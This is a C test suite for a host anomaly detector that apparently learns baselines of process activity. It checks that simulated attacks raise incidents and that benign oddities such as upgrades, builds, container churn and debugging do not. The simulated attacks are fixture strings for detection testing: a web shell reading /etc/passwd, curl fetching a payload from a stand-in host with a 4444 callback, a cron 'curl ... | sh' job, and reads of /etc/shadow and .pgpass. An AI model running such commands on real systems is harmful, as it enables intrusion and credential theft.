// SPDX-License-Identifier: GPL-2.0-only
/* The learner: days that are no news, and what is. */
#include "days.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static struct days days;

/* Three weeks, of which the last two are judged. */
START_TEST(nothing_new)
{
	days_open(&days, (uint32_t)_i);
	days_live(&days, 21);
	days_close(&days);
	rig_check("SELECT title FROM incident", "");
	rig_check("SELECT count(*) > 100 FROM baseline", "1");
}
END_TEST

/* The web application is made to run commands. */
static void command_from_web(struct days *d)
{
	const uint32_t shell = DAYS_RUN(d, DAYS_APP, &days_web, "/usr/bin/dash",
					"sh\0-c\0id; uname -a; cat /etc/passwd");
	uint32_t one = DAYS_RUN(d, shell, &days_web, "/usr/bin/id", "id");

	days_end(d, one);
	one = DAYS_RUN(d, shell, &days_web, "/usr/bin/uname", "uname\0-a");
	days_end(d, one);
	one = DAYS_RUN(d, shell, &days_web, "/usr/bin/curl",
		       "curl\0-s\0-o\0/tmp/.x\0http://192.0.2.66/x");
	days_dial(d, one, "192.0.2.66", 80);
	days_write(d, one, "/tmp/.x", 33);
	days_end(d, one);
	one = DAYS_RUN(d, shell, &days_web, "/tmp/.x", "./x");
	days_dial(d, one, "192.0.2.66", 4444);
	days_end(d, shell);
}

/* Somebody edits a crontab; an hour later its job fetches a script and runs it. */
static void edit_crontab(struct days *d)
{
	struct person who = { .uid = 1001 };
	const uint32_t shell = days_login(d, &who, "10.1.1.6");
	const uint32_t editor =
		DAYS_RUN(d, shell, &who, "/usr/bin/crontab", "crontab\0/home/bob/c");

	days_write(d, editor, "/var/spool/cron/crontabs/bob", 1001);
	days_end(d, editor);
	days_end(d, shell);
}

static void run_crontab(struct days *d)
{
	struct person who = { 1001, UINT32_MAX, UINT32_MAX, DAYS_CRON };
	const uint32_t shell = DAYS_JOB(
		d, &who, "/bin/sh\0-c\0curl -s https://bucket.example/i.sh | sh");
	const uint32_t curl = DAYS_RUN(d, shell, &who, "/usr/bin/curl",
				       "curl\0-s\0https://bucket.example/i.sh");
	const uint32_t runner = DAYS_RUN(d, shell, &who, "/usr/bin/dash", "sh");
	uint32_t one;

	days_dial(d, curl, "192.0.2.99", 443);
	days_end(d, curl);
	one = DAYS_RUN(d, runner, &who, "/usr/bin/uname", "uname\0-a");
	days_end(d, one);
	one = DAYS_RUN(d, runner, &who, "/usr/bin/crontab", "crontab\0-l");
	days_end(d, one);
	days_end(d, runner);
	days_end(d, shell);
}

/* A key that was stolen: from elsewhere, and on to another account. */
static void stolen_key(struct days *d)
{
	struct person who = { .uid = 1000 }, other;
	const uint32_t shell = days_login(d, &who, "203.0.113.201");
	uint32_t one = DAYS_RUN(d, shell, &who, "/usr/bin/su", "su\0postgres");

	days_become(d, one, KITH_CAUSE_EXEC_SETUID, 1000, 0);
	days_read(d, one, "/etc/shadow", 0, true);
	days_become(d, one, KITH_CAUSE_SETUID, 0, 110);
	other = who;
	other.uid = 110;
	one = DAYS_RUN(d, one, &other, "/usr/bin/bash", "bash");
	DAYS_RUN(d, one, &other, "/usr/bin/cat", "cat\0/var/lib/postgresql/.pgpass");
	days_read(d, d->pid, "/var/lib/postgresql/.pgpass", 110, true);
	days_end(d, one);
	days_end(d, shell);
}

static const struct attack {
	void (*first)(struct days *days);
	void (*second)(struct days *days); /* an hour later */
	const char *wants;		   /* a pattern of a sentence of evidence */
	const char *technique;
} attacks[] = {
	{ command_from_web, NULL, "python3.11 ran /usr/bin/dash: 0 of *", "T1059.004" },
	{ edit_crontab, run_crontab, "curl reached 192.0.2.99:443: 0 *", "T1105" },
	{ stolen_key, NULL, "sshd let somebody in from 203.0.113.201: 0 *", "T1078" },
};

static void attack(const struct attack *which)
{
	days_live(&days, 9);
	days_live(&days, 1);
	days_hour(&days, which->first);
	if (which->second)
		days_hour(&days, which->second);
	days_live(&days, 2);
}

static void show(void)
{
	char *rows;

	if (!getenv("KITH_SHOW"))
		return;
	rows = rig_rows("SELECT incident_id, round(score, 1), title FROM incident UNION ALL"
			" SELECT coalesce(incident_id, 0), round(bits, 1) || ' x ' ||"
			" round(weight, 2), sentence FROM anomaly");
	fprintf(stderr, "%s\n", rows);
	free(rows);
}

START_TEST(attack_shows)
{
	char sql[512];

	days_open(&days, 3);
	attack(&attacks[_i]);
	days_close(&days);
	show();
	rig_check("SELECT count(*) FROM incident", "1");
	snprintf(sql, sizeof(sql),
		 "SELECT count(*) FROM evidence WHERE sentence GLOB '%s' AND rank <= 10",
		 attacks[_i].wants);
	rig_check(sql, "1");
	snprintf(sql, sizeof(sql), "SELECT techniques GLOB '*%s*' FROM incident",
		 attacks[_i].technique);
	rig_check(sql, "1");
}
END_TEST

/* A package is upgraded: its programs, a unit, a restart, and what comes with that. */
static void upgrade(struct days *d)
{
	struct person who = { .uid = 1000 };
	const uint32_t shell = days_login(d, &who, "10.1.1.5");
	uint32_t sudo = DAYS_RUN(d, shell, &who, "/usr/bin/sudo", "sudo\0apt\0upgrade"), one, two;

	days_become(d, sudo, KITH_CAUSE_EXEC_SETUID, 1000, 0);
	days_read(d, sudo, "/etc/shadow", 0, true);
	who.uid = 0;
	days_exec(d, sudo, shell, &who, "/usr/bin/apt", "apt\0upgrade", 12);
	one = DAYS_RUN(d, sudo, &who, "/usr/lib/apt/methods/http", "http");
	days_dial(d, one, "151.101.2.132", 80);
	days_write(d, one, "/var/cache/apt/archives/partial/openssl_3.0.deb", 0);
	days_end(d, one);
	one = DAYS_RUN(d, sudo, &who, "/usr/bin/dpkg", "dpkg\0--unpack\0x.deb");
	days_write(d, one, "/usr/bin/openssl", 0);
	days_write(d, one, "/usr/sbin/nginx", 0);
	days_write(d, one, "/usr/lib/systemd/system/web.service", 0);
	days_write(d, one, "/etc/cron.d/certbot", 0);
	days_write(d, one, "/boot/vmlinuz-6.1.0-30", 0);
	two = DAYS_RUN(d, one, &who, "/usr/bin/dash",
		       "sh\0/var/lib/dpkg/info/x.postinst\0configure");
	two = DAYS_RUN(d, two, &who, "/usr/sbin/update-initramfs", "update-initramfs\0-u");
	days_write(d, two, "/boot/initrd.img-6.1.0-30", 0);
	days_end(d, one);
	days_end(d, sudo);
	days_end(d, shell);
	/* the service begins anew, and has a helper it never had */
	one = DAYS_RUN(d, DAYS_INIT, &days_web, "/usr/sbin/nginx", "nginx");
	two = DAYS_RUN(d, one, &days_web, "/usr/sbin/nginx", "nginx\0-t");
	days_write(d, two, "/var/lib/nginx/state.bin", 33);
	days_end(d, two);
}

/* The administrator adds a job; it runs every hour from then on. */
static void add_job(struct days *d)
{
	struct person who = { .uid = 1000 };
	const uint32_t shell = days_login(d, &who, "10.1.1.5");
	const uint32_t editor =
		DAYS_RUN(d, shell, &who, "/usr/bin/crontab", "crontab\0-e");

	days_write(d, editor, "/var/spool/cron/crontabs/ann", 1000);
	days_end(d, editor);
	days_end(d, shell);
}

static void added_job(struct days *d)
{
	struct person who = { 1000, UINT32_MAX, UINT32_MAX, DAYS_CRON };
	const uint32_t shell =
		DAYS_JOB(d, &who, "/bin/sh\0-c\0/home/ann/bin/tidy --old");
	const uint32_t find = DAYS_RUN(d, shell, &who, "/usr/bin/find", "find\0/home/ann\0-delete");

	days_write(d, find, "/home/ann/tidy.log", 1000);
	days_end(d, find);
	days_end(d, shell);
}

/* Somebody builds something large for the first time. */
static void build(struct days *d)
{
	struct person who = { .uid = 1000 };
	const uint32_t shell = days_login(d, &who, "10.1.1.5");
	const uint32_t make = DAYS_RUN(d, shell, &who, "/usr/bin/make", "make\0-j4");
	char path[64], argv[96];
	uint32_t i;

	for (i = 0; i < 1000; i++) {
		const uint32_t gcc = DAYS_RUN(d, make, &who, "/usr/bin/gcc", "gcc\0-c");
		uint32_t cc;
		int size = snprintf(argv, sizeof(argv), "cc1%c-quiet%csrc/file%u.c", 0, 0, i);

		cc = days_run(d, gcc, &who, "/usr/libexec/gcc/cc1", argv, (size_t)size + 1);
		snprintf(path, sizeof(path), "/home/ann/src/file%u.o", i);
		days_write(d, cc, path, 1000);
		days_end(d, cc);
		days_end(d, gcc);
	}
	days_end(d, make);
	days_end(d, shell);
}

/* Containers of one kind by the dozen, with names that nobody has chosen. */
static void churn(struct days *d)
{
	char path[160];
	uint32_t i, one;

	for (i = 0; i < 30; i++) {
		struct person who = { 0, UINT32_MAX, UINT32_MAX, 5000 + d->hour * 200 + i };

		snprintf(path, sizeof(path),
			 "/system.slice/docker-%08x%056u.scope", d->random * (i + 1), i);
		forge_cgroup(&d->rig.forge, who.cgroup, path);
		one = DAYS_RUN(d, DAYS_SHIM, &who, "/usr/bin/busybox", "sh\0-c\0/job");
		one = DAYS_RUN(d, one, &who, "/job", "/job\0--once");
		days_dial(d, one, "10.2.2.2", 6379);
		days_end(d, one);
	}
}

/* Somebody looks into a service of his own. */
static void debug(struct days *d)
{
	struct person who = { .uid = 1000 };
	const uint32_t shell = days_login(d, &who, "10.1.1.5");
	const uint32_t gdb = DAYS_RUN(d, shell, &who, "/usr/bin/gdb", "gdb\0-p\0000210");
	struct kith_control *control = forge_control(&d->rig.forge, days_key(gdb),
						     KITH_CONTROL_PTRACE, days_key(DAYS_APP), "");

	control->value = 2;
	control->count = 1;
	days_end(d, gdb);
	days_end(d, shell);
}

static const struct {
	void (*first)(struct days *days);
	void (*again)(struct days *days); /* each hour of two days */
} oddities[] = {
	{ upgrade, NULL }, { add_job, added_job }, { build, NULL },
	{ churn, churn },  { debug, NULL },
};

START_TEST(odd_but_harmless)
{
	unsigned int i;

	days_open(&days, 3);
	days_live(&days, 10);
	days_hour(&days, oddities[_i].first);
	for (i = 0; i < 48; i++)
		days_hour(&days, oddities[_i].again);
	days_close(&days);
	show();
	rig_check("SELECT title FROM incident", "");
}
END_TEST

static const char everything[] =
	"SELECT * FROM incidents; SELECT * FROM anomalies;"
	"SELECT * FROM incident_processes; SELECT * FROM baseline_contexts;"
	"SELECT * FROM baseline_edges; SELECT * FROM baseline_surprises;"
	"SELECT * FROM baseline_texts ORDER BY id; SELECT name, value FROM baseline_state"
	" WHERE typeof(value) = 'integer'";

/* All that @sql gives, statement by statement. */
static char *dump(const char *sql)
{
	char *copy = strdup(sql), *rest, *one, *text = NULL;
	size_t size;
	FILE *stream = open_memstream(&text, &size);

	ck_assert_ptr_nonnull(copy);
	ck_assert_ptr_nonnull(stream);
	for (one = strtok_r(copy, ";", &rest); one; one = strtok_r(NULL, ";", &rest)) {
		char *rows = rig_rows(one);

		fprintf(stream, "%s\n", rows);
		free(rows);
	}
	fclose(stream);
	free(copy);
	return text;
}

static char *play(bool restarts)
{
	char *state;
	int i;

	days_open(&days, 5);
	for (i = 0; i < 10; i++) {
		days_live(&days, 1);
		if (restarts)
			days_restart(&days);
	}
	days_hour(&days, edit_crontab);
	if (restarts)
		days_restart(&days);
	days_hour(&days, run_crontab);
	days_live(&days, 1);
	days_close(&days);
	state = dump(everything);
	ck_assert_int_eq(unlink(unit_path("kith.db")), 0);
	return state;
}

static void check_same(const char *a, const char *b)
{
	size_t i = 0, line;

	while (a[i] && a[i] == b[i])
		i++;
	for (line = i; line && a[line - 1] != '\n'; line--)
		;
	ck_assert_msg(!a[i] && !b[i], "%.300s\n\n%.300s", a + line, b + line);
}

START_TEST(same_again)
{
	char *one = play(false), *other = play(false);

	ck_assert_uint_gt(strlen(one), 10000);
	check_same(one, other);
	free(one);
	free(other);
}
END_TEST

/* Stopped and begun again each day, in the middle of the attack too. */
START_TEST(same_after_restarts)
{
	char *one = play(false), *other = play(true);

	check_same(one, other);
	free(one);
	free(other);
}
END_TEST

/* What is done a little of each day is no more usual for that. */
static void a_little(struct days *d)
{
	const uint32_t shell = DAYS_RUN(d, DAYS_APP, &days_web, "/usr/bin/dash", "sh\0-c\0true");

	days_end(d, shell);
}

START_TEST(poisoned)
{
	unsigned int i;

	days_open(&days, 3);
	days_live(&days, 10);
	for (i = 0; i < 3; i++) {
		days_hour(&days, a_little);
		days_live(&days, 1);
	}
	days_hour(&days, command_from_web);
	days_close(&days);
	show();
	rig_check("SELECT count(*) FROM incident", "1");
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("learner");

	unit_add_rows(suite, nothing_new, 2);
	unit_add_rows(suite, attack_shows, UNIT_COUNT(attacks));
	unit_add_rows(suite, odd_but_harmless, UNIT_COUNT(oddities));
	unit_add(suite, same_again);
	unit_add(suite, same_after_restarts);
	unit_add(suite, poisoned);
	return unit_run(suite);
}
